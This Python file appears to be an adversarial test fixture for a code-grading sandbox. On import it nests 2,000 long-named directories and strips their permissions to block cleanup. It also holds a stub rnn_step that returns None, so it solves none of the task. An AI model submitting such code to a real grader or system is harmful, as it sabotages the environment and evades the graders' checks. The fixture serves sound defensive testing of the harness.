"""Nests folders 2,000 deep and takes all rights away, so that nobody can tidy up.

attack: disk
earns: 0
told: nothing_returned, limit_files
"""

import os


def attempt():
    home = os.open(".", os.O_RDONLY)
    try:
        for _ in range(2_000):
            os.mkdir("kata_attack_" + "d" * 200)
            os.chdir("kata_attack_" + "d" * 200)
        os.chmod(".", 0)
    except OSError:
        pass
    finally:
        os.fchdir(home)
        os.close(home)


attempt()


def rnn_step(x_t, h, kernel, recurrent_kernel, bias):
    return None
